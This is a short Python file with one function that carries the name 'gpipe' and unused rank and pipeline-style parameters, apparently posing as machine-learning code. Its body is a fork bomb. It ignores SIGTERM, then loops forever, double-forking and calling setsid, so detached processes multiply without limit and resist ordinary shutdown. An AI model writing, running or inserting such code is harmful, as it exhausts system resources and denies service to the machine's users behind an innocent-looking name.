"""Every process forks twice, leaves the session and its parent, and does it again."""

import os
import signal


def gpipe(rank, p, m):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
                if os.fork() > 0:
                    os._exit(0)
        except OSError:
            pass
